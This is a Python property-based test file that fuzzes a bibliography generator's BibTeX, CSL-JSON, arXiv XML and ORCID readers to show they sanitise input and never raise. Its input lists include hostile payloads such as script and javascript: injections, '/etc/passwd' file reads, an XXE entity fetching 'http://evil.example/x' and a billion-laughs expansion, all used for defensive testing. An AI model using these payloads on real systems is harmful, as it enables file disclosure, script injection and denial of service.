"""Property-based tests of the bibliography readers: any bytes, any text, text shaped like each format (payloads,
broken syntax, stray escapes) and mutations of our fixtures give papers and one-line diagnostics, never an
exception; reading is deterministic; every paper holds only clean text and http(s) addresses.

Examples per test: 2,000 by default (what CI runs); `PORTFOLIO_HYPOTHESIS=quick` runs 100 (the convention of
tests/test_properties.py). Failing examples Hypothesis found are kept as `@example` regression cases.
"""

from __future__ import annotations

import json
import os
from xml.sax.saxutils import escape

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from generator.diagnostics import Diagnostic, Level
from generator.model import DATE_PRECISIONS, PUB_TYPES
from generator.model.identifiers import find_arxiv_id, normalise_arxiv_id, normalise_doi, web_address
from generator.readers import BibliographyDocument, arxiv, bibtex, csl, orcid, read_text
from generator.readers.base import clean
from generator.readers.bibtex import _Decoder, common_latex_text
from generator.readers.text import SourceText, decode, remove_unsafe_characters
from tests.conftest import AS_OF, SOURCES
from tests.hostile_corpus import HOSTILE

PROFILES = {"ci": 2000, "quick": 100}
EXAMPLES = PROFILES[os.environ.get("PORTFOLIO_HYPOTHESIS", "ci")]
PER_READER = settings(
    max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)

# Pieces of the formats, right and nearly right, and payloads: what real and hostile files are made of.
PIECES = [
    r"{\"u}",
    r"\'e",
    r"{\ss}",
    r"\v{s}",
    r"\'{\i}",
    "--",
    "---",
    "``",
    "''",
    "{Capitals}",
    "$x^2$",
    r"$\mathcal{O}(n)$",
    "$",
    "{",
    "}",
    "\\",
    "\\\\",
    "%",
    "&",
    "#",
    "~",
    "@",
    "@article{",
    ",",
    "=",
    '"',
    "\n",
    " and ",
    " and others",
    "*",
    "∗",
    "$^\\dagger$",
    r"\textsuperscript{*}",
    "[A+] ",
    "[Re] ",
    r"\emph{",
    r"\href{javascript:x}{y}",
    r"\url{x}",
    r"\input{/etc/passwd}",
    r"\char0",
    "javascript:alert(1)",
    " JaVaScRiPt:x",
    "data:text/html,x",
    "file:///etc/passwd",
    "//evil.example",
    "https://doi.org/10.1/x",
    "http://dx.doi.org/10.5555/A%2FB",
    "doi:10.5555/abc",
    "10.5555/abc",
    "arXiv:2301.01234",
    "2301.01234v2",
    "hep-th/9901001",
    "https://arxiv.org/abs/2301.01234",
    "cs.LG",
    "jan",
    "13",
    "2023",
    "2023-05-17",
    "<script>pwned</script>",
    "<i>",
    "</i>",
    '<span class="nocase">',
    "{{ config }}",
    "{% raw %}",
    "[x](javascript:y)",
    "Fu, Deqing",
    "Deqing Fu",
    "{van der} Berg, Anna",
    "King, Jr., Martin",
    "others",
    "\u202e",
    "\u200b",
    "\x00",
    "\x1b[31m",
    "\r\n",
    "\t",
    "ü",
    "—",
]
piece = st.one_of(st.sampled_from(PIECES), st.text(max_size=8))
value = st.lists(piece, max_size=8).map("".join)


def corrupted(strategy):
    """Text from `strategy`, sometimes cut short or with a few characters inserted or deleted."""

    @st.composite
    def build(draw):
        text = draw(strategy)
        for _ in range(draw(st.integers(0, 3))):
            if not text:
                break
            at = draw(st.integers(0, len(text)))
            if draw(st.booleans()):
                text = (
                    text[:at]
                    + draw(st.sampled_from(["{", "}", '"', ",", "[", "]", "<", ">", "&", "\\", "\n"]))
                    + text[at:]
                )
            else:
                text = text[:at] + text[at + 1 :]
        return text[: draw(st.integers(0, len(text)))] if draw(st.integers(0, 4)) == 0 else text

    return build()


# BibTeX ------------------------------------------------------------------------------------------------

BIB_TYPES = [
    "article",
    "inproceedings",
    "misc",
    "book",
    "phdthesis",
    "techreport",
    "incollection",
    "proceedings",
    "unpublished",
    "online",
    "weird",
    "STRING",
    "string",
    "comment",
    "preamble",
    "Article",
]
BIB_FIELDS = [
    "title",
    "Title",
    "author",
    "editor",
    "year",
    "month",
    "date",
    "journal",
    "booktitle",
    "publisher",
    "doi",
    "url",
    "pdf",
    "code",
    "html",
    "website",
    "eprint",
    "archivePrefix",
    "primaryClass",
    "keywords",
    "abstract",
    "note",
    "crossref",
    "howpublished",
    "arxiv",
    "volume",
    "eprinttype",
    "school",
    "x y",
]
bib_value = st.one_of(
    value.map(lambda v: "{" + v + "}"),
    value.map(lambda v: f'"{v}"'),
    value,
    st.sampled_from(["jan", "nips", "2020", 'conf # " x"', 'jan # "~1"', "{a} # {b}", "undefined"]),
)
bib_entry = st.builds(
    lambda kind, key, fields, closed: (
        f"@{kind}{{{key},\n" + ",\n".join(f"  {n} = {v}" for n, v in fields) + ("\n}" if closed else "")
    ),
    st.sampled_from(BIB_TYPES),
    st.sampled_from(["k", "k2", "fu2024", "a b", "", "dup", "{x}"]),
    st.lists(st.tuples(st.sampled_from(BIB_FIELDS), bib_value), max_size=8),
    st.booleans(),
)
bib_text = corrupted(
    st.lists(
        st.one_of(
            bib_entry,
            st.sampled_from(
                [
                    "% comment",
                    '@string{nips = "NeurIPS"}',
                    '@string{conf = nips # " 2023"}',
                    "junk text",
                    "@comment{x}",
                    '@preamble{"x"}',
                    "@article{crossref, title = {Volume}, year = 2020}",
                ]
            ),
        ),
        max_size=6,
    ).map("\n\n".join)
)

# CSL-JSON ----------------------------------------------------------------------------------------------

json_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=12),
    st.sampled_from(PIECES),
)
json_value = st.recursive(
    json_scalar,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
    max_leaves=12,
)
text_or_any = st.one_of(value, json_value)
csl_person = st.one_of(
    st.fixed_dictionaries(
        {},
        optional={
            "family": text_or_any,
            "given": text_or_any,
            "literal": text_or_any,
            "non-dropping-particle": value,
            "dropping-particle": value,
            "suffix": value,
        },
    ),
    json_value,
)
csl_date = st.one_of(
    st.fixed_dictionaries(
        {},
        optional={
            "date-parts": st.lists(
                st.lists(st.one_of(st.integers(-5, 10_000), st.text(max_size=5)), max_size=4), max_size=2
            ),
            "date_parts": st.lists(st.lists(st.integers(0, 3000), max_size=3), max_size=1),
            "raw": value,
            "literal": value,
        },
    ),
    json_value,
)
csl_item = st.fixed_dictionaries(
    {},
    optional={
        "id": text_or_any,
        "citation-key": text_or_any,
        "title": text_or_any,
        "author": st.lists(csl_person, max_size=5) | json_value,
        "issued": csl_date,
        "DOI": text_or_any,
        "URL": text_or_any,
        "container-title": text_or_any | st.lists(value, max_size=2),
        "publisher": text_or_any,
        "abstract": text_or_any,
        "keyword": text_or_any | st.lists(value, max_size=3),
        "note": text_or_any,
        "number": text_or_any,
        "archive_location": text_or_any,
        "type": st.sampled_from(
            ["article-journal", "paper-conference", "article", "book", "chapter", "thesis", "report", "webpage", "x"]
        )
        | json_value,
    },
)
csl_text = corrupted(
    st.builds(
        lambda document, indent: json.dumps(document, indent=indent, ensure_ascii=False),
        st.one_of(st.lists(st.one_of(csl_item, json_value), max_size=5), csl_item),
        st.sampled_from([None, 1, 2, "\t"]),
    )
)

# arXiv API responses -----------------------------------------------------------------------------------

xml_text = st.one_of(
    value.map(escape),
    value,
    st.sampled_from(
        [
            "<![CDATA[<script>pwned</script>]]>",
            "&amp;",
            "&lt;",
            "&foo;",
            "&#0;",
            "&#x110000;",
            "&#65;",
            "<b>x</b>",
            "<!-- c -->",
        ]
    ),
)
xml_element = st.builds(
    lambda name, text: f"<{name}>{text}</{name}>",
    st.sampled_from(
        ["id", "title", "summary", "published", "updated", "arxiv:doi", "arxiv:journal_ref", "arxiv:comment", "name"]
    ),
    xml_text,
)
xml_link = st.builds(
    lambda rel, title, href: f'<link rel="{rel}" title="{title}" href="{escape(href, {chr(34): "&quot;"})}"/>',
    st.sampled_from(["alternate", "related", ""]),
    st.sampled_from(["pdf", "doi", ""]),
    value,
)
xml_entry = st.lists(
    st.one_of(
        xml_element,
        xml_link,
        xml_text,
        st.builds(lambda term: f'<arxiv:primary_category term="{escape(term, {chr(34): "&quot;"})}"/>', value),
        st.builds(lambda name: f"<author><name>{name}</name></author>", xml_text),
    ),
    max_size=8,
).map(lambda parts: "<entry>" + "".join(parts) + "</entry>")
arxiv_text = corrupted(
    st.builds(
        lambda prolog, entries: (
            f'{prolog}<feed xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom">'
            f"<title>arXiv</title>{''.join(entries)}</feed>"
        ),
        st.sampled_from(
            [
                '<?xml version="1.0" encoding="UTF-8"?>\n',
                "",
                '<?xml version="1.0" encoding="ISO-8859-1"?>\n',
                '<!DOCTYPE feed [<!ENTITY x "pwned">]>\n',
                '<!DOCTYPE feed SYSTEM "file:///etc/passwd">\n',
                '<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>\n',
            ]
        ),
        st.lists(xml_entry, max_size=4),
    )
)

# ORCID works -------------------------------------------------------------------------------------------

wrapped = st.one_of(st.builds(lambda v: {"value": v}, text_or_any), json_value)
orcid_id = st.sampled_from(["0000-0002-1825-0097", "0000-0002-1825-0098", "0000-0002-9079-593X", "x", ""])
orcid_external = st.fixed_dictionaries(
    {},
    optional={
        "external-id-type": st.sampled_from(["doi", "arxiv", "uri", "issn", "DOI"]) | json_value,
        "external-id-value": text_or_any,
        "external-id-normalized": wrapped,
        "external-id-relationship": st.sampled_from(["self", "part-of", "version-of"]) | json_value,
    },
)
orcid_summary = st.fixed_dictionaries(
    {},
    optional={
        "put-code": st.integers() | json_value,
        "title": st.one_of(st.builds(lambda w: {"title": w}, wrapped), json_value),
        "type": st.sampled_from(["journal-article", "conference-paper", "preprint", "book-chapter", "other"])
        | json_value,
        "publication-date": st.one_of(
            st.fixed_dictionaries({}, optional={"year": wrapped, "month": wrapped, "day": wrapped}), json_value
        ),
        "journal-title": wrapped,
        "url": wrapped,
        "display-index": text_or_any,
        "external-ids": st.builds(lambda ids: {"external-id": ids}, st.lists(orcid_external, max_size=3)) | json_value,
        "path": st.builds(lambda i, n: f"/{i}/work/{n}", orcid_id, st.integers(0, 99)) | json_value,
    },
)
orcid_group = st.fixed_dictionaries(
    {},
    optional={
        "work-summary": st.lists(orcid_summary, max_size=3) | json_value,
        "external-ids": st.builds(lambda ids: {"external-id": ids}, st.lists(orcid_external, max_size=3)) | json_value,
    },
)
orcid_text = corrupted(
    st.builds(
        lambda groups, owner, indent: json.dumps(
            {"last-modified-date": None, "group": groups, "path": f"/{owner}/works"}, indent=indent, ensure_ascii=False
        ),
        st.lists(orcid_group, max_size=4) | json_value,
        orcid_id,
        st.sampled_from([None, 2]),
    )
)

# Inputs of every kind ----------------------------------------------------------------------------------

BIBLIOGRAPHY_FILES = [
    path.read_bytes()
    for path in sorted(
        [
            *(p for p in SOURCES.iterdir() if p.suffix in (".bib", ".json", ".xml")),
            *(p for p in HOSTILE.iterdir() if p.suffix in (".bib", ".json", ".xml")),
        ]
    )
]


@st.composite
def mutated(draw) -> bytes:
    """One of our bibliography fixtures with a few random edits: lines cut, repeated, swapped or replaced."""
    lines = draw(st.sampled_from(BIBLIOGRAPHY_FILES)).split(b"\n")
    for _ in range(draw(st.integers(0, 5))):
        if not lines:
            break
        at = draw(st.integers(0, len(lines) - 1))
        edit = draw(st.sampled_from(["cut", "repeat", "swap", "replace", "insert"]))
        if edit == "cut":
            del lines[at : at + draw(st.integers(1, 6))]
        elif edit == "repeat":
            lines[at:at] = lines[at : at + draw(st.integers(1, 6))]
        elif edit == "swap":
            other = draw(st.integers(0, len(lines) - 1))
            lines[at], lines[other] = lines[other], lines[at]
        elif edit == "replace":
            lines[at] = draw(st.one_of(st.binary(max_size=30), st.sampled_from(PIECES).map(str.encode)))
        else:
            cut = draw(st.integers(0, len(lines[at])))
            lines[at] = lines[at][:cut] + draw(st.binary(max_size=8)) + lines[at][cut:]
    data = b"\n".join(lines)
    return data[: draw(st.integers(0, len(data)))] if draw(st.integers(0, 3)) == 0 else data


def inputs(shaped) -> st.SearchStrategy[bytes]:
    """What a reader may be handed: its own format, mutated fixtures, any text, any bytes."""
    return st.one_of(
        shaped.map(lambda text: text.encode("utf-8", "surrogatepass")),
        mutated(),
        st.text(max_size=600).map(lambda t: t.encode("utf-8", "surrogatepass")),
        st.binary(max_size=600),
    )


# Checks ------------------------------------------------------------------------------------------------


def check_text(text: str) -> None:
    assert text and text == clean(text) and text == remove_unsafe_characters(text), repr(text)


def check_paper(paper, source: SourceText) -> None:
    check_text(paper.title)
    for name in paper.authors or []:
        check_text(name)
    assert paper.authors is None or paper.authors  # never an empty list
    assert set(paper.authors_marked) <= set(paper.authors or []) and set(paper.authors_marked.values()) <= {
        "*",
        "†",
        "‡",
    }
    for text in (paper.abstract, paper.venue, paper.note, paper.citation_key, paper.arxiv_category, *paper.keywords):
        if text is not None:
            check_text(text)
    assert len({k.casefold() for k in paper.keywords}) == len(paper.keywords)
    for url in (paper.url, paper.pdf, paper.code, paper.html):
        assert url is None or (web_address(url) == url and url.lower().startswith(("http://", "https://"))), url
    assert paper.doi is None or normalise_doi(paper.doi) == paper.doi
    assert paper.arxiv_id is None or normalise_arxiv_id(paper.arxiv_id) == paper.arxiv_id
    assert paper.pub_type in PUB_TYPES and paper.date_precision in DATE_PRECISIONS
    assert paper.date is None or 1000 <= paper.date.year <= 9999
    assert paper.has_code == (paper.code is not None)
    assert paper.origin[0] == source.path and 0 <= paper.origin[1] <= len(source.lines) + 1
    assert paper.sources == [source.name]


def check_diagnostics(diagnostics, source: SourceText) -> None:
    for diagnostic in diagnostics:
        assert isinstance(diagnostic, Diagnostic) and isinstance(diagnostic.level, Level)
        assert diagnostic.file == source.path and diagnostic.message
        assert 0 <= diagnostic.line <= len(source.lines) + 1
        line = str(diagnostic)
        assert "\n" not in line and "\r" not in line and line.startswith(f"{source.path}:"), line


def read_with(reader, data: bytes, name: str) -> None:
    """Force one reader on any decodable input (even one its sniffer would refuse)."""
    source = decode(data, name)
    if isinstance(source, Diagnostic):
        return
    assert isinstance(reader.sniff(source), bool)
    document = reader.read(source, AS_OF)
    assert isinstance(document, BibliographyDocument) and document.format == reader.KIND
    check_diagnostics(document.diagnostics, source)
    for paper in document.papers:
        check_paper(paper, source)
    assert reader.read(source, AS_OF) == document  # deterministic


@PER_READER
@given(inputs(bib_text))
@example(b"@article{k, title = {" + b"{" * 5000 + b"deep" + b"}" * 5000 + b"}}")
@example(b"@article{k, title = {\\emph" + b"{" * 2000 + b"x" + b"}" * 2000 + b"}}")
@example(b"@string{a = b # a}\n@string{b = a # b}\n@misc{k, title = a}")  # macros that name each other
@example(b"@misc{k, title = {x}, author = {, and ,,, and {}}}")
@example(b'@article{,\n  title = {{\\"u}}\n}')  # found by Hypothesis: an empty key is no key
def test_the_bibtex_reader_never_raises(data):
    read_with(bibtex, data, "input.bib")


@PER_READER
@given(inputs(csl_text))
@example(b"[" * 100_000 + b"]" * 100_000)
@example(b'[{"title": "x", "issued": {"date-parts": [[1e999]]}}]')
@example(b'[{"title": "x", "issued": {"date-parts": [[' + b"9" * 5000 + b"]]}}]")  # a number too long to convert
@example(b'[{"title": "\\u202e\\u0000x", "author": [{"literal": "\\u200b"}]}]')
def test_the_csl_reader_never_raises(data):
    read_with(csl, data, "input.json")


@PER_READER
@given(inputs(arxiv_text))
@example(
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><feed xmlns="http://www.w3.org/2005/Atom">&lol2;</feed>'
)
@example(b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&#x7f;&#x202e;x</title></entry></feed>')
def test_the_arxiv_reader_never_raises(data):
    read_with(arxiv, data, "input.xml")


@PER_READER
@given(inputs(orcid_text))
@example(b'{"group": [{"work-summary": [{"title": {"title": {"value": "x"}}, "display-index": "1e9999"}]}]}')
def test_the_orcid_reader_never_raises(data):
    read_with(orcid, data, "input.json")


@PER_READER
@given(inputs(st.one_of(bib_text, csl_text, arxiv_text, orcid_text)))
def test_sniffing_and_reading_bibliographies_never_raise(data):
    source = decode(data, "input.txt")
    if isinstance(source, Diagnostic):
        return
    document, diagnostics = read_text(source, AS_OF)
    check_diagnostics(diagnostics, source)
    for paper in getattr(document, "papers", []) if isinstance(document, BibliographyDocument) else []:
        check_paper(paper, source)
    assert read_text(source, AS_OF) == (document, diagnostics)


# The common-LaTeX fast path reads what pylatexenc reads ---------------------------------------------------

LATEX_PIECES = [
    r"\"",
    r"\'",
    "\\`",
    r"\^",
    r"\~",
    r"\=",
    r"\.",
    r"\v ",
    r"\u",
    r"\H",
    r"\c ",
    r"\k",
    r"\r ",
    "{",
    "}",
    "a",
    "E",
    "i",
    r"\i",
    r"\j",
    r"\ss",
    r"\o",
    r"\ae",
    r"\L",
    r"\th",
    " ",
    "  ",
    "-",
    "--",
    "---",
    "`",
    "'",
    "''",
    "``",
    "!",
    "?",
    "~",
    r"\&",
    r"\%",
    r"\_",
    r"\#",
    r"\{",
    r"\}",
    r"\$",
    "$",
    "x",
    "^",
    "_",
    r"\alpha",
    "1",
    "ü",
    "\n",
    r"\aa{}",
    "{}",
    r"\emph",
    r"\textbf{",
    "\\\\",
]
DECODER = _Decoder()


@PER_READER
@given(st.lists(st.sampled_from(LATEX_PIECES), min_size=1, max_size=14).map("".join))
@example(r"\O\r E")  # found while writing it: a letter command must not swallow the accent after it
@example("\\ss\n\nx")
def test_the_fast_latex_path_agrees_with_pylatexenc(latex):
    fast = common_latex_text(latex)
    if fast is not None:
        assert clean(fast) == clean(DECODER.latex_to_text(latex))


# Identifiers -------------------------------------------------------------------------------------------


@PER_READER
@given(st.one_of(value, st.text(max_size=60)))
@example("https://doi.org/10.1/x\xa0--")  # found by Hypothesis: a no-break space is white space too
@example("https://example.org/\u202etxt.exe")
def test_identifiers_come_out_normalised_or_not_at_all(text):
    doi = normalise_doi(text)
    assert doi is None or (doi == doi.lower() and doi.startswith("10.") and normalise_doi(doi) == doi)
    arxiv_id = find_arxiv_id(text)
    assert arxiv_id is None or normalise_arxiv_id(arxiv_id) == arxiv_id
    url = web_address(text)
    assert url is None or (url.lower().startswith(("http://", "https://")) and not any(c.isspace() for c in url))
    assert url is None or url == remove_unsafe_characters(url)
